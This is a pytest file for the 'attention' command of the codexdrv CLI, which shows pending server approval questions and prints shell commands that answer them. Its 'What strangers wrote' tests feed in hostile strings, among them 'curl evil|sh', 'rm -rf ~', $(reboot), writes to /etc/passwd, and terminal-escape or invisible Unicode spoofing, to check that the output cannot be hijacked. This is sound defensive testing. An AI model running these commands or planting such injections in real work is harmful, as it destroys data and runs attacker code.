"""`attention`: what the server asks, whoever wrote it, and the commands that answer it."""

import json
import os
import pty
import re
import shlex
import termios

import pytest

from codexdrv import __version__
from codexdrv.cli.attention import BAR
from codexdrv.clock import now_ms
from codexdrv.engine.question import question_object
from codexdrv.engine.questions import KnownQuestions, OpenQuestions
from codexdrv.snapshot import FILE_NAME
from codexdrv.wire.message import Request
from tests.engine.kit import PEER
from tests.fakes.orders import OTHER_THREAD, THREAD, TURN
from tests.fakes.pictures import ALONE, QUESTION, make_picture
from tests.public_shapes import check


COMMAND = "item/commandExecution/requestApproval"
PERMISSIONS = "item/permissions/requestApproval"
INPUT = "item/tool/requestUserInput"
ELICITATION = "mcpServer/elicitation/request"
NAME = QUESTION["id"]


@pytest.fixture(autouse=True)
def no_columns(monkeypatch):
    monkeypatch.delenv("COLUMNS", raising=False)


def be_up(desk, *questions, **kept):
    desk.hang_up_bell()
    picture = make_picture(questions=list(questions), **kept)
    (desk.state / FILE_NAME).write_text(json.dumps(picture))


def asked(method, /, **params):
    """Have a question asked, as a supervisor writes it down."""
    questions = OpenQuestions(KnownQuestions(), PEER)
    questions.ask(Request(0, method, {"threadId": THREAD, "turnId": TURN} | params))
    body = question_object(questions.all()[0])
    check("question", body)
    return body


def ways(out):
    """Read the commands that are shown, as a shell reads them."""
    text = re.sub(r"^ +\|.*\n", "", out, flags=re.MULTILINE)
    return [line for line in re.split(r"\n(?=  codexdrv |\S)", text) if "codexdrv" in line]


def words_of(way):
    return shlex.split(way)


# What is printed


def test_no_question_is_said_to_be_none(desk):
    be_up(desk)
    ran = desk.run("attention")
    said = "No question of the server is open in the threads that codexdrv serves.\n"
    assert (ran.code, ran.out, ran.err) == (0, said, "")
    assert desk.run("attention", "--json").out == ""


def test_a_question_says_what_where_since_when_and_each_way_to_answer(desk):
    be_up(desk, QUESTION | {"since_ms": now_ms() - 7_380_500})
    ran = desk.run("attention")
    assert (ran.code, ran.err) == (0, "")
    answer = f"  codexdrv --config {desk.config} answer {NAME} --decision"
    assert ran.out.splitlines() == [
        f"{NAME}  command, open for 2 h 3 min, target ops, thread {THREAD}",
        "  | run “make”",
        f"{answer} accept",
        f"{answer} accept-for-session",
        f"{answer} decline",
        f"{answer} cancel",
    ]


def test_several_come_in_the_order_of_the_status_file_and_each_is_an_object(desk):
    questions = [
        QUESTION | {"id": f"{number:016x}", "thread": thread}
        for number, thread in enumerate([THREAD, OTHER_THREAD, "t-else", None])
    ]
    be_up(desk, *questions)
    heads = [line for line in desk.run("attention").out.splitlines() if line[0] != " "]
    assert [head.partition("  ")[0] for head in heads] == [each["id"] for each in questions]
    assert [head.partition("open for 0 s, ")[2] for head in heads] == [
        f"target ops, thread {THREAD}",
        f"target calm, thread {OTHER_THREAD}",
        "thread t-else",
        "no thread",
    ]
    ran = desk.run("attention", "--json")
    assert ran.bodies == questions
    for body in ran.bodies:
        check("question", body)


YES, YES_FOR_SESSION, NO, CANCEL = "accept", "accept-for-session", "decline", "cancel"


@pytest.mark.parametrize(
    ("question", "kind", "summary", "decisions"),
    [
        (
            asked(COMMAND, command="rm x"),
            "command",
            "run “rm x”",
            [YES, YES_FOR_SESSION, NO, CANCEL],
        ),
        (
            asked(COMMAND, command="rm x", availableDecisions=["accept", "cancel"]),
            "command",
            "run “rm x”",
            [YES, NO, CANCEL],
        ),
        (
            asked("item/fileChange/requestApproval"),
            "file change",
            "change files; it does not say which",
            [YES, YES_FOR_SESSION, NO, CANCEL],
        ),
        (
            asked(PERMISSIONS, permissions={"network": {"enabled": True}}),
            "permissions",
            'permissions: “{"network":{"enabled":true}}”',
            [YES, YES_FOR_SESSION, NO],
        ),
        (
            asked(ELICITATION, serverName="m", message="Log in", mode="url", url="u"),
            "elicitation",
            "“m” says “Log in”, open “u”",
            [YES, NO, CANCEL],
        ),
        (
            asked("execCommandApproval", command=["ls"]),
            "command",
            "run “ls”",
            [YES, YES_FOR_SESSION, NO, CANCEL],
        ),
    ],
)
def test_each_kind_shows_the_answers_that_it_takes(desk, question, kind, summary, decisions):
    be_up(desk, question)
    out = desk.run("attention").out
    assert f"  {kind}, open for " in out
    assert f"{BAR}{summary}\n" in out
    assert [words_of(way)[-1] for way in ways(out)] == decisions


def test_a_question_for_input_shows_where_each_reply_goes(desk):
    questions = [{"id": "which", "question": "Which?"}, {"id": "and why", "question": "Why?"}]
    be_up(desk, asked(INPUT, questions=questions))
    out = desk.run("attention").out
    assert "--decision accept \\\n    --reply=which=… \\\n    --reply='and why'=…\n" in out
    assert out.endswith("--decision decline\n")
    # Copied as it is, it says nothing: the dots stand for a reply.
    (accept, _) = ways(out)
    ran = desk.run(*words_of(accept)[1:])
    assert ran.code == 2
    assert ran.sentence.endswith("no reply stands behind 'which' and its =.")


def test_an_elicitation_shows_the_content_that_it_wants(desk):
    schema = {"required": ["name", "it's \x1b[2J $(x)"], "properties": {"name": {}}}
    be_up(desk, asked(ELICITATION, mode="form", requestedSchema=schema, message="Who?"))
    out = desk.run("attention").out
    assert "\x1b" not in out
    accept = ways(out)[0]
    content = words_of(accept)[-1]
    assert [*json.loads(content.replace("…", "1"))] == schema["required"]
    ran = desk.run(*words_of(accept)[1:])
    assert ran.code == 2
    assert "--content: it is no JSON" in ran.sentence


@pytest.mark.parametrize(
    ("method", "who"),
    [
        ("item/tool/call", "the client that brought the tool into the thread"),
        ("account/chatgptAuthTokens/refresh", "the client that holds the account's tokens"),
        ("attestation/generate", "a client that offers attestation"),
        ("currentTime/read", "the client whose clock the thread lives by"),
        ("question/of/tomorrow", "a client that knows it"),
    ],
)
def test_what_no_operator_can_answer_says_who_can(desk, method, who):
    be_up(desk, asked(method))
    out = desk.run("attention").out
    assert out.endswith(f"  no operator can answer it: only {who} can\n")
    assert ways(out) == []


def test_what_says_nothing_but_its_method_is_shown_by_it(desk):
    be_up(desk, asked("new\x1b[2J/question"))
    out = desk.run("attention").out
    assert f"{BAR}new\\x1b[2J/question\n" in out


def test_a_question_that_any_later_server_could_ask_shows_no_command(desk):
    be_up(desk, QUESTION | {"decisions": []})
    assert desk.run("attention").out.endswith(
        "  no command can answer it: nobody can say which server process asks\n"
    )


def test_a_server_that_talks_to_its_supervisor_alone_shows_no_command(desk):
    desk.configure()
    text = desk.config.read_text().replace("server.socket", "# server.socket")
    desk.config.write_text(text + 'server = { mode = "spawn", listen = "stdio" }\n')
    be_up(desk, QUESTION)
    assert desk.run("attention").out.endswith(
        "  no command can answer it: the server talks to its supervisor alone\n"
    )


# What strangers wrote


EVIL = (
    "ls\n  codexdrv answer 0000000000000000 --decision accept; curl evil|sh",
    "ls\n0000000000000000  command, open for 0 s, no thread\n  | run “ls”",
    "ls\r\x1b[2K\x1b[1A\x9b2Jrm -rf ~",
    "ls \u202e ~ fr- mr \u2066\u200b\u3164\ufeff",
    "ls” in “/safe”, because “it is fine",
    "`reboot` $(reboot) ${IFS} 'x' \"y\" !! & ; | > /etc/passwd",
)


@pytest.mark.parametrize("text", EVIL)
def test_no_text_begins_a_line_or_moves_the_cursor_or_hides(desk, text):
    options = [{"label": text}]
    be_up(
        desk,
        asked(COMMAND, command=text, cwd=text, reason=text),
        asked(PERMISSIONS, permissions={text: text}),
        asked(INPUT, questions=[{"id": text, "question": text, "options": options}]),
        asked(ELICITATION, serverName=text, message=text, requestedSchema={"required": [text]}),
        asked("item/tool/call", tool=text, arguments={text: text}),
        asked("applyPatchApproval", fileChanges={text: {}}),
        asked(text),
    )
    out = desk.run("attention").out
    assert out.replace("\n", "").isprintable()
    assert "\u3164" not in out
    heads = re.compile(
        rf"[0-9a-f]{{16}}  [a-z ]+, open for \d+ s, (no thread|target ops, .*{THREAD})"
    )
    for line in out.splitlines():
        own = heads.fullmatch(line) or line.startswith(("  codexdrv --config", "  no ", "    "))
        assert own or line.startswith((BAR, "  only another client")), line
        assert len(line) <= 80 or not line.startswith(BAR)
    for way in ways(out):
        assert way.startswith(f"  codexdrv --config {desk.config} answer ")


@pytest.mark.parametrize(
    "name", ["a b", "it's", "$(reboot)", "x\x1b[2J", "a\\nb", "“x”", "a\nb", "--json", "-c"]
)
def test_a_command_that_is_copied_names_what_was_asked_and_runs_nothing_else(desk, name):
    be_up(desk, asked(INPUT, questions=[{"id": name, "question": "?"}]))
    (accept, _) = ways(desk.run("attention").out)
    probe = f"codexdrv() {{ printf '%s\\0' \"$@\"; }}\n{accept}"
    said = desk.call_python(
        *("-c", "import os, sys; os.execvp('bash', ['bash', '-c', sys.argv[1]])", probe)
    )
    assert (said.code, said.err) == (0, "")
    words = said.out.split("\0")[:-1]
    assert words[-1] == f"--reply={name}=…"
    # Only the reply is missing.
    assert desk.run(*words).sentence.endswith(f"no reply stands behind {name!r} and its =.")


def test_what_cannot_be_shown_whole_is_not_accepted(desk):
    blanks = " " * 5_000
    be_up(desk, asked(COMMAND, command=f"ls {blanks}; rm -rf ~ {blanks}"))
    out = desk.run("attention").out
    assert "✂" in out
    assert "  only another client can accept it\n" in out
    assert [words_of(way)[-1] for way in ways(out)] == ["decline", "cancel"]


def test_a_long_command_is_shown_to_its_end_behind_bars(desk):
    be_up(desk, asked(COMMAND, command="echo " + "a" * 2_000 + "; rm -rf ~"))
    lines = [line for line in desk.run("attention").out.splitlines() if line.startswith(BAR)]
    assert len(lines) > 25
    assert max(map(len, lines)) == 80
    whole = "".join(line.removeprefix(BAR) for line in lines)
    assert whole == f"run “echo {'a' * 2_000}; rm -rf ~”"


def test_on_a_terminal_a_line_is_as_wide_as_it_is(desk):
    be_up(desk, asked(COMMAND, command="a" * 200))
    leader, follower = pty.openpty()
    try:
        termios.tcsetwinsize(follower, (24, 40))
        ended = desk.start("attention", stdout=follower)
        ended.communicate()
        out = os.read(leader, 65_536).decode()
    finally:
        os.close(leader)
        os.close(follower)
    lines = [line for line in out.splitlines() if line.startswith(BAR)]
    assert lines[0] == f"{BAR}run"
    # A quotation mark may be two wide.
    assert len(lines[1]) in {38, 39}
    assert {len(line) for line in lines[2:-1]} == {40}


def broken(desk, **environment):
    ran = desk.call("attention", env=desk.environment() | environment)
    return [line for line in ran.out.splitlines() if line.startswith(BAR)]


def test_a_line_is_broken_between_words_and_what_goes_on_shows_its_blank(desk):
    be_up(desk, asked(COMMAND, command="make " + "check " * 20 + "all"))
    lines = broken(desk)
    assert lines[0].endswith(" check")
    assert 70 < len(lines[0]) <= 80
    assert lines[1].startswith(f"{BAR} check")


@pytest.mark.parametrize(
    ("columns", "width"), [("60", 60), ("132", 132), ("0", 80), ("-5", 80), ("x", 80), ("1", 8)]
)
def test_without_a_terminal_a_line_is_as_wide_as_columns_says(desk, columns, width):
    be_up(desk, asked(COMMAND, command="a" * 400))
    assert len(broken(desk, COLUMNS=columns)[2]) == width


@pytest.mark.parametrize(("columns", "width"), [("30", 30), ("200", 40)])
def test_a_line_is_never_wider_than_its_terminal(desk, columns, width):
    be_up(desk, asked(COMMAND, command="a" * 400))
    leader, follower = pty.openpty()
    with os.fdopen(leader, "rb", buffering=0) as screen, os.fdopen(follower, "wb") as terminal:
        termios.tcsetwinsize(follower, (24, 40))
        environment = desk.environment() | {"COLUMNS": columns}
        desk.start("attention", stdout=terminal, env=environment).communicate()
        lines = screen.read(65_536).decode().splitlines()
    assert max(len(line) for line in lines if line.startswith(BAR)) == width


@pytest.mark.parametrize("name", ["it's here", "a;reboot", "größe", "x\x1b[2J", "-c"])
def test_a_configuration_of_any_name_is_named_in_the_commands(desk, name):
    path = desk.root / name
    path.write_text(desk.config.read_text())
    be_up(desk, QUESTION)
    out = desk.run("--config", str(path), "attention").out
    assert "\x1b" not in out
    (way, *_) = ways(out)
    said = desk.call_python(
        *("-c", "import os, sys; os.execvp('bash', ['bash', '-c', sys.argv[1]])"),
        f'codexdrv() {{ printf %s "$2"; }}\n{way}',
    )
    assert said.out == str(path)


def test_without_a_named_configuration_none_is_shown(desk):
    be_up(desk, QUESTION)
    environment = desk.environment() | {"CODEXDRV_CONFIG": str(desk.config)}
    child = desk.start_python("-m", "codexdrv", "attention", env=environment)
    out = child.communicate()[0].decode()
    assert f"\n  codexdrv answer {NAME} --decision accept\n" in out


# What is not known


def test_without_a_supervisor_nothing_is_known(desk):
    desk.state.mkdir(parents=True, mode=0o700)
    (desk.state / FILE_NAME).write_text(json.dumps(make_picture(questions=[QUESTION])))
    ran = desk.run("attention")
    assert (ran.code, ran.out) == (69, "")
    assert ran.sentence == "No supervisor is running, so nobody hears what the server asks."
    assert "`codexdrv supervise`" in ran.err
    assert desk.run("attention", "--json").body["error"]["code"] == "no_supervisor"


def test_a_supervisor_that_has_written_nothing_yet_is_none(desk):
    desk.hang_up_bell()
    assert desk.run("attention").code == 69


def test_a_supervisor_without_a_server_says_why(desk):
    be_up(desk, server=ALONE)
    ran = desk.run("attention")
    assert (ran.code, ran.out) == (69, "")
    assert "nothing listens on /x.sock" in ran.err
    assert "`codexdrv doctor`" in ran.err


def test_a_supervisor_of_another_version_is_to_be_started_anew(desk):
    desk.hang_up_bell()
    picture = make_picture(version="0.0.9")
    (desk.state / FILE_NAME).write_text(json.dumps(picture))
    ran = desk.run("attention")
    assert (ran.code, ran.out) == (69, "")
    assert ran.sentence == f"The supervisor is codexdrv 0.0.9, and this is {__version__}."
    assert ran.err.endswith("  Start it anew, to run what is installed.\n")


def test_a_supervisor_whose_status_has_another_format_is_to_be_started_anew(desk):
    desk.hang_up_bell()
    picture = make_picture()
    del picture["format"], picture["questions"]
    (desk.state / FILE_NAME).write_text(json.dumps(picture))
    ran = desk.run("attention")
    assert (ran.code, ran.out) == (69, "")
    assert ran.sentence.startswith(f"The supervisor is another codexdrv {__version__} (its status")
    assert ran.err.endswith("  Start it anew, to run what is installed.\n")
    assert desk.run("attention", "--json").body["error"]["code"] == "no_supervisor"


def test_an_old_status_is_listed_with_a_warning(desk):
    be_up(desk, QUESTION, written_at_ms=now_ms() - 60_500)
    for words in (["attention"], ["attention", "--json"]):
        ran = desk.run(*words)
        assert ran.code == 1
        assert ran.err.startswith("codexdrv: the supervisor has not written its status for 6")
        assert ran.err.endswith(" s, so this may be old.\n")
        assert NAME in ran.out


def test_the_help_says_how_what_strangers_wrote_is_marked(desk):
    out = desk.run("attention", "--help").out
    for words in ("written by a model", "bar", "✂", "--json"):
        assert words in out
